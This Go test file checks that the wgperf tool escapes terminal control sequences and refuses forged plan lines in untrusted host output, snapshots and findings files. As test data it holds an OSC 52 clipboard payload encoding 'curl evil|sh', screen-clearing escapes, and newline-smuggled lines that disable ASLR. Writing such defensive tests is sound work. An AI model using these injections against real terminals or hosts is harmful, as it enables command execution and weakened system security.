package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// osc52 writes "curl evil|sh" to the clipboard of the terminal that shows it;
// clear wipes the screen and homes the cursor, hiding what came before.
const (
	osc52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
	clear = "\x1b[2J\x1b[H"
)

// rawControl finds what a terminal would obey: C0 controls but newline and
// tab, DEL and C1 controls (CSI as U+009B).
var rawControl = regexp.MustCompile("[\x00-\x08\x0b-\x1f\x7f]|\u0080|[\u0081-\u009f]")

// forgedLine is the plan line the findings files below try to smuggle in.
var forgedLine = regexp.MustCompile(`(?m)^\s*9\. \[forged\]`)

// TestForeignTextEscapedWithoutTerminal is issue 30 item 8: with standard
// output a file or pipe (here a buffer), every renderer that shows text
// wgperf did not write — a target's answers, a snapshot, a findings file —
// shows its escape sequences escaped or refuses it in one line; none
// reaches the output raw, and a newline in it cannot forge a plan line. JSON
// output stays valid and keeps the values.
func TestForeignTextEscapedWithoutTerminal(t *testing.T) {
	dir := t.TempDir()
	// A host whose uname and sysctl answer with escape sequences.
	bin := filepath.Join(dir, "bin")
	if err := os.MkdirAll(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string]string{
		"uname":  "6.1.0" + osc52 + clear,
		"sysctl": "212992" + clear + "\u009b2J" + osc52,
	} {
		script := "#!/bin/sh\nprintf '%s\\n' '" + out + "'\n"
		if err := os.WriteFile(filepath.Join(bin, name), []byte(script), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write := func(name, content string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	sysctlFix := write("sysctl.json", `{"findings": [{"id": "udp.rcvbuf-errors", "severity": "warning", "title": "t", "evidence": [],
	  "fixes": [{"description": "raise it", "commands": [], "action": {"kind": "sysctl", "params": {"key": "net.core.rmem_max", "value": "26214400"}}}]}]}`)
	forged := write("forged.json", `{"findings": [{"id": "mtu.x", "severity": "info", "title": "t", "evidence": [],
	  "fixes": [{"description": "look\n\n9. [forged] set kernel.randomize_va_space = 0", "commands": ["true\n9. [forged] run: sysctl -w kernel.randomize_va_space=0"]}]}]}`)
	escapes := write("escapes.json", `{"findings": [{"id": "mtu.x", "severity": "info", "title": "t`+jsonEscape(osc52)+`", "evidence": [],
	  "fixes": [{"description": "d`+jsonEscape(clear)+`", "commands": ["ip link`+jsonEscape(osc52)+`"], "config": [{"path": "/etc/x", "lines": ["a`+jsonEscape(clear)+`"]}]}]}]}`)
	raw, err := os.ReadFile(snapshot("seed000-golem.json"))
	if err != nil {
		t.Fatal(err)
	}
	snap := write("snap.json", strings.Replace(strings.ReplaceAll(string(raw), "br-lan.253", "br-lan.253"+jsonEscape(clear)),
		`"hostname": "golem"`, `"hostname": "golem`+jsonEscape(osc52)+`"`, 1))

	t.Setenv("PATH", bin+":"+os.Getenv("PATH"))
	for _, tc := range []struct {
		name string
		args []string
		json bool
	}{
		{"fix plan from a host's answers", []string{"fix", "--host", "local", "--root", dir, "--from", sysctlFix}, false},
		{"fix script from a host's answers", []string{"fix", "--host", "local", "--root", dir, "--from", sysctlFix, "--print-script"}, false},
		{"fix plan JSON from a host's answers", []string{"fix", "--host", "local", "--root", dir, "--from", sysctlFix, "--json"}, true},
		{"fix plan with forged lines", []string{"fix", "--host", "local", "--root", dir, "--from", forged}, false},
		{"fix script with forged lines", []string{"fix", "--host", "local", "--root", dir, "--from", forged, "--print-script"}, false},
		{"fix plan with escapes in free text", []string{"fix", "--host", "local", "--root", dir, "--from", escapes}, false},
		{"diagnose a snapshot with escapes", []string{"diagnose", "--from", snap}, false},
		{"diagnose JSON of a snapshot with escapes", []string{"diagnose", "--from", snap, "--json"}, true},
		{"fix plan from a snapshot with escapes", []string{"fix", "--host", "ssh:root@golem", "--root", dir, "--from", snap, "--print-script"}, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var out, errOut bytes.Buffer
			code := run(tc.args, &out, &errOut)
			for what, b := range map[string]*bytes.Buffer{"stdout": &out, "stderr": &errOut} {
				if m := rawControl.FindString(b.String()); m != "" {
					t.Errorf("exit %d: raw %q on %s:\n%s", code, m, what, b.String())
				}
				if forgedLine.MatchString(b.String()) {
					t.Errorf("exit %d: a forged plan line on %s:\n%s", code, what, b.String())
				}
			}
			if code == exitFailed && strings.Count(errOut.String(), "\n") != 1 {
				t.Errorf("refused with %q, want one line", errOut.String())
			}
			if tc.json && code != exitFailed && !json.Valid(out.Bytes()) {
				t.Errorf("invalid JSON:\n%s", out.String())
			}
			t.Logf("exit %d, stderr %q, stdout %d bytes", code, errOut.String(), out.Len())
		})
	}
}

// jsonEscape writes s for a JSON string, escapes as \u escapes.
func jsonEscape(s string) string {
	b, _ := json.Marshal(s)
	return string(b[1 : len(b)-1])
}
